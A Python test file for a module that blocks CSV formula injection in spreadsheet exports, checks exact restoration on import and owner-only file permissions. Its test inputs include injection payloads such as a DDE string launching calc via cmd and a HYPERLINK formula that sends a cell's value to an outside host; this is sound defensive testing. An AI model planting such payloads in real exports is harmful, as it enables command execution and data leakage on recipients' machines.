"""Tables for spreadsheets: formula cells neutralised (OWASP's CSV-injection rule), restored exactly on the
way back, files owner-only."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from testament.tabular import csv_text, neutralise_cell, read_csv, restore_cell, write_csv

# What a spreadsheet would start a formula with, decided independently of the module under test: the first
# character is one of OWASP's (= + - @ tab CR LF) or NUL (ASVS), or the first after leading blanks is a
# formula sign; a plain number is a number.
_SIGNS = "=+-@＝＋－＠"


def _runs_as_formula(cell: str) -> bool:
    if not cell:
        return False
    if cell[0] in "\t\r\n\0":
        return True
    start = cell.lstrip().lstrip("\u200b\u200c\u200d\u2060\ufeff").lstrip()
    if not start or start[0] not in _SIGNS:
        return False
    try:
        float(start)
    except ValueError:
        return True
    return start.lower().lstrip("+-") in ("inf", "nan", "infinity")  # float() reads these: not numbers


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://x","y")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\tplain",
        "\r=1",
        "\n=1",
        "\0x",
        " =1+1",
        "\u00a0@SUM(1)",
        "\u200b=1",
        "＝1+1",
        "-",
        "+98 21 1234",
        "-inf",
    ],
)
def test_neutralise_cell_prefixes_quote_when_formula(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell
    assert restore_cell(neutralise_cell(cell)) == cell


@pytest.mark.parametrize(
    "cell", ["", "Ali Rezaei", "a=b", "علی", "1367/05/15", "-1", "+3.5", "-2e-3", "1e5", " -7", "'x", "'-1"]
)
def test_neutralise_cell_keeps_text_and_numbers_when_no_formula(cell: str) -> None:
    assert neutralise_cell(cell) == cell
    assert restore_cell(cell) == cell


def test_neutralise_cell_writes_values_as_text() -> None:
    assert [neutralise_cell(v) for v in (None, 12, -1, 2.5, "=x")] == ["", "12", "-1", "2.5", "'=x"]


def test_neutralise_cell_doubles_quote_when_data_starts_with_quote_and_formula() -> None:
    # a quote that was in the data is kept apart from the one Testament adds
    assert neutralise_cell("'=x") == "''=x"
    assert restore_cell("''=x") == "'=x"
    assert restore_cell("'=x") == "=x"


@given(st.text())
def test_restore_cell_inverts_neutralise_cell_for_any_text(cell: str) -> None:
    assert restore_cell(neutralise_cell(cell)) == cell


@given(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\0 \u00a0\u200b1.eax,\"＝"))))
def test_neutralise_cell_never_leaves_a_formula(cell: str) -> None:
    assert not _runs_as_formula(neutralise_cell(cell))


def test_csv_text_neutralises_header_and_cells() -> None:
    text = csv_text(["=h", "n"], [['=HYPERLINK("x.example?q="&A1,"y")', -1], ["ok", 3]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["'=h", "n"], ['\'=HYPERLINK("x.example?q="&A1,"y")', "-1"], ["ok", "3"]]
    assert all(not _runs_as_formula(cell) for row in rows for cell in row)


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_write_csv_owner_only_when_umask_022(tmp_path: Path, umask_022: None) -> None:
    out = tmp_path / "t.csv"
    out.write_text("old\n")  # an existing, world-readable file is tightened when overwritten
    os.chmod(out, 0o644)
    assert write_csv(out, ["a"], [["=1"], ["2"]]) == 2
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_bytes() == b"a\r\n'=1\r\n2\r\n"


def test_read_csv_restores_what_write_csv_wrote(tmp_path: Path) -> None:
    header = ["=list", "+b", "count"]
    rows = [["1", "0", "5"], ["'=x", "-2+3", ""]]
    write_csv(tmp_path / "t.csv", header, rows)
    got_header, records = read_csv((tmp_path / "t.csv").read_text("utf-8"))
    assert got_header == header
    assert records == [dict(zip(header, r, strict=True)) for r in rows]


def test_read_csv_short_row_gives_empty_cells() -> None:
    assert read_csv("a,b,c\n1\n\n2,3,4,5\n") == (
        ["a", "b", "c"],
        [{"a": "1", "b": "", "c": ""}, {"a": "2", "b": "3", "c": "4"}],
    )
